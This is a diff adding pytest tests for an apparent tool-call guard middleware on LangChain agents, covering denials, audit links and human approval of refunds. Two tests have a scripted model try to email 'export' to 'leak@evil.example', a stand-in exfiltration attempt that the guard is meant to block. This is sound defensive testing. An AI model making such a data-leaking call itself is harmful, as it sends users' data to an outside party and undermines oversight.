@@ -1,0 +1,72 @@
+"""LangChain's create_agent with Tether as middleware: refusals, breakpoints, the decision chain."""
+
+from __future__ import annotations
+
+import asyncio
+
+from langchain_core.messages import HumanMessage
+from langgraph.checkpoint.memory import InMemorySaver
+
+from tether.core import Guard
+from tether.langgraph import Tether, resume
+
+from .conftest import ScriptedModel, calls
+from .graphs import agent
+
+THREAD = {"configurable": {"thread_id": "a-1"}}
+
+
+def test_refusal_reaches_the_model_and_the_audit_links_the_chain(guard: Guard, tools, ran) -> None:
+    model = ScriptedModel(script=[calls(("send_email", {"to": "leak@evil.example", "body": "export"}, "e1"))])
+    agent(model, tools, Tether(guard, agent="support-bot")).invoke({"messages": [HumanMessage("hi")]}, THREAD)
+    assert ran.calls == []
+    assert "Tether denied the call to 'send_email'" in model.tool_replies()["e1"]
+    events = {e.event_id: e for e in guard.store.session_events("a-1")}
+    decision = next(e for e in events.values() if e.kind == "tool.decision")
+    response = events[decision.parent_id]  # the model response that proposed the call
+    assert response.kind == "model.response"
+    assert response.details["tool_calls"] == [{"id": "e1", "name": "send_email"}]
+    assert events[response.parent_id].kind == "model.request"
+
+
+def test_async_agent_is_enforced(guard: Guard, tools, ran) -> None:
+    model = ScriptedModel(script=[calls(("send_email", {"to": "leak@evil.example", "body": "x"}, "e1"))])
+    graph = agent(model, tools, Tether(guard, agent="support-bot"))
+    asyncio.run(graph.ainvoke({"messages": [HumanMessage("hi")]}, THREAD))
+    assert ran.calls == []
+    assert "Tether denied" in model.tool_replies()["e1"]
+
+
+def test_parallel_breakpoints_in_separate_tasks_are_decided_in_one_resume(guard: Guard, tools, ran) -> None:
+    model = ScriptedModel(
+        script=[
+            calls(
+                ("refund", {"order": "A", "amount": 100}, "r1"),
+                ("refund", {"order": "B", "amount": 200}, "r2"),
+                ("lookup", {"ticket": "9"}, "l1"),
+            )
+        ]
+    )
+    graph = agent(model, tools, Tether(guard, agent="support-bot"), InMemorySaver())
+    result = graph.invoke({"messages": [HumanMessage("refunds")]}, THREAD)
+    interrupts = result["__interrupt__"]
+    assert len({i.id for i in interrupts}) == 2  # one per pending call, each with its own id
+    assert ran.count("lookup") == 1  # the allowed call ran in its own task, once
+
+    graph.invoke(resume(interrupts, {"r1": "approve", "r2": "deny"}), THREAD)
+    assert ran.calls.count(("refund", {"order": "A", "amount": 100})) == 1
+    assert ran.count("refund") == 1
+    assert ran.count("lookup") == 1
+    assert set(model.tool_replies()) == {"r1", "r2", "l1"}
+    assert "denied by langgraph-resume" in model.tool_replies()["r2"]
+
+
+def test_human_in_the_loop_middleware_answers_are_understood(guard: Guard, tools, ran) -> None:
+    model = ScriptedModel(script=[calls(("refund", {"order": "A", "amount": 100}, "r1"))])
+    graph = agent(model, tools, Tether(guard, agent="support-bot"), InMemorySaver())
+    graph.invoke({"messages": [HumanMessage("refund")]}, THREAD)
+    from langgraph.types import Command
+
+    edit = {"type": "edit", "edited_action": {"name": "refund", "args": {"order": "A", "amount": 60}}}
+    graph.invoke(Command(resume={"decisions": [edit]}), THREAD)
+    assert ran.calls == [("refund", {"order": "A", "amount": 60})]
